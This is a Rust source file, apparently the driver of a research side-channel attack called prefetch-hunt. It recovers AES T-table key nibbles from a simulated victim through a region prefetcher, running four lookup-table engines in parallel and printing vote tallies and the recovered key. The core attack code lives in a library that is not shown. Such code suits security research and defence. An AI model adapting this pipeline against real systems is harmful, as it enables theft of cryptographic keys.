//! Attack driver: runs the full key-recovery pipeline against a
//! simulated victim, one hypothesis engine per lookup table in
//! parallel, and prints the vote state and the recovered key.

use rayon::prelude::*;
use std::time::Instant;

use prefetch_hunt::{
    run_lut_attack, AttackReport, LutHypothesis, LutReport, RecordClass, SimulatedVictim,
    AES_POSITIONS,
};

/// The simulation key. The driver knows it only to mark recovered
/// nibbles as right or wrong in the output; the engine never sees it.
const VICTIM_KEY: [u8; 16] = [
    0x13, 0x58, 0x9d, 0xe2, 0x7a, 0x2f, 0xc4, 0x61,
    0xb5, 0x96, 0x3c, 0x88, 0xd1, 0x40, 0xeb, 0x0e,
];

const REPETITIONS: u64 = 2000;
const NOISE_RATE: f64 = 0.02;
const SEED: u64 = 0x5eed;

fn main() {
    println!("=== prefetch-hunt: AES T-table key recovery via region prefetcher ===");
    println!(
        "Simulated victim: {} repetitions/trace, {:.1}% jitter\n",
        REPETITIONS,
        NOISE_RATE * 100.0
    );

    let start = Instant::now();

    // The four engines share no state and run in parallel; each gets
    // its own deterministic victim instance.
    let luts: Vec<(usize, LutHypothesis)> = (0..4usize)
        .into_par_iter()
        .map(|lut_index| {
            let mut victim =
                SimulatedVictim::new(VICTIM_KEY, REPETITIONS, NOISE_RATE, SEED + lut_index as u64);
            let lut = run_lut_attack(AES_POSITIONS[lut_index], &mut victim);
            (lut_index, lut)
        })
        .collect();

    let mut reports = Vec::new();
    for (lut_index, lut) in &luts {
        println!("=== LUT {} (positions {:?}) ===", lut_index, lut.positions());

        for (class, label) in [(RecordClass::Anchor, "anchor"), (RecordClass::Dependent, "dependent")] {
            let path = format!("maps-LUT{}-{}.txt", lut_index, label);
            if let Err(err) = lut.dump_records(class, &path) {
                eprintln!("warning: could not dump {} traces: {}", label, err);
            }
        }

        let report = LutReport::from_hypothesis(*lut_index, lut);
        for row in &report.anchor_bits {
            println!(
                "key byte {:2}, bit {}: votes ZERO: {:3} | ONE: {:3} | UNKNOWN: {:3} --> {}",
                report.positions[0], row.bit, row.zeros, row.ones, row.unknown, row.resolved
            );
        }
        for (idx, candidates) in report.dependent_candidates.iter().enumerate() {
            let pos = report.positions[idx + 1];
            print!("key byte {:2} candidates:", pos);
            for candidate in candidates {
                print!(" {:#04x}({})", candidate.value, candidate.votes);
            }
            println!();
        }

        for (idx, &pos) in report.positions.iter().enumerate() {
            let byte = report.resolved[idx];
            let correct = VICTIM_KEY[pos];
            println!(
                "key byte hypothesis {:2}: {:#04x}, correct: {:#04x} ({}_)",
                pos,
                byte,
                correct,
                if byte & 0xf0 == correct & 0xf0 { 'E' } else { '_' }
            );
        }
        println!();
        reports.push(report);
    }

    let report = AttackReport::new(reports);
    let correct = report.correct_upper_nibbles(&VICTIM_KEY);

    println!("{}", "=".repeat(60));
    println!("Recovered key (upper nibbles): {}", report.recovered_key_hex);
    println!("Correct upper nibbles:         {}/16", correct);
    println!("Wall time:                     {:.2}s", start.elapsed().as_secs_f64());

    match serde_json::to_string_pretty(&report) {
        Ok(json) => {
            let path = "attack-report.json";
            match std::fs::write(path, json) {
                Ok(()) => println!("Report saved to {}", path),
                Err(err) => eprintln!("warning: could not write {}: {}", path, err),
            }
        }
        Err(err) => eprintln!("warning: could not serialize report: {}", err),
    }
}
